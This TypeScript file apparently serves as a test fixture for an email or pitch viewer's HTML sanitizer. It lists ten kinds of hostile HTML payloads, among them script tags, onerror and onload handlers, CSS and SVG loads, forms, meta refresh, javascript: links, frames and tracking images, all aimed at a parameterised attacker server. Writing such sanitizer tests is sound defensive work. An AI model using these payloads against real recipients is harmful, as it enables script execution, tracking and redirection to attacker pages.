/** One kind of attack on the person who opens a pitch. */
export interface Attack {
  name: string;
  html: string;
}

/**
 * HTML of mails that tries to run scripts, to load something, to post a form or to leave the page. Each attack that succeeds
 * is seen: as a request to the attacker's server, as a dialog, or as another page.
 *
 * @param server the address of the attacker's server
 */
export function attacksOn(server: string): Attack[] {
  const alert = "alert('run')";
  return [
    {
      name: 'script',
      html: `<script>${alert};fetch('${server}/script')</script><script src="${server}/script.js"></script>`,
    },
    {
      name: 'event attributes',
      html: `<img src=x onerror="${alert}"><body onload="${alert}"><details open ontoggle="${alert}">`,
    },
    {
      name: 'CSS',
      html:
        `<style>@import "${server}/import.css";@font-face{font-family:x;src:url(${server}/font)}body{font-family:x;` +
        `background:url(${server}/background)}p:before{content:url(${server}/content)}</style><link rel="stylesheet" href="${server}/link.css">` +
        `<p style="background-image:url(${server}/style)">text</p><div style="position:fixed;inset:0;z-index:9">over all</div>`,
    },
    {
      name: 'SVG',
      html:
        `<svg onload="${alert}"><script>${alert}</script><image href="${server}/svg.png"/><use href="${server}/use.svg#a"/>` +
        `<foreignObject><iframe src="${server}/foreign"></iframe></foreignObject><a href="${server}/svg-link"><text y="20">text</text></a></svg>` +
        `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${alert}'/>">`,
    },
    {
      name: 'forms',
      html:
        `<form id="f" action="${server}/form" method="post"><input name="a" autofocus onfocus="${alert}"><button>Send</button></form>` +
        `<button form="f" formaction="javascript:${alert}">Go</button><input type="image" src="${server}/input.png">`,
    },
    {
      name: 'meta refresh',
      html: `<meta http-equiv="refresh" content="0;url=${server}/refresh"><base href="${server}/">text`,
    },
    {
      name: 'links',
      html:
        `<a href="javascript:${alert}">javascript</a><a href="${server}/link" target="_top">top</a><a href="${server}/blank" target="_blank">blank</a>` +
        `<a href="${server}/ping" ping="${server}/ping">self</a><a href="data:text/html,<script>${alert}</script>">data</a>`,
    },
    {
      name: 'remote images',
      html:
        `<img src="${server}/pixel.png"><img srcset="${server}/set.png 2x"><picture><source srcset="${server}/source.png"></picture>` +
        `<table background="${server}/table.png"><tr><td>text</td></tr></table><video poster="${server}/poster.png"></video>` +
        `<audio src="${server}/audio" autoplay></audio><input type=image src="${server}/input.png">`,
    },
    {
      name: 'frames',
      html:
        `<iframe src="${server}/frame"></iframe><iframe srcdoc="<script>parent.${alert}</script>"></iframe><object data="${server}/object"></object>` +
        `<embed src="${server}/embed"><frameset><frame src="${server}/frameset"></frameset><portal src="${server}/portal"></portal>`,
    },
    {
      name: 'preloads',
      html: `<link rel="dns-prefetch" href="${server}"><link rel="preload" as="image" href="${server}/preload"><link rel="prerender" href="${server}/prerender">`,
    },
  ];
}
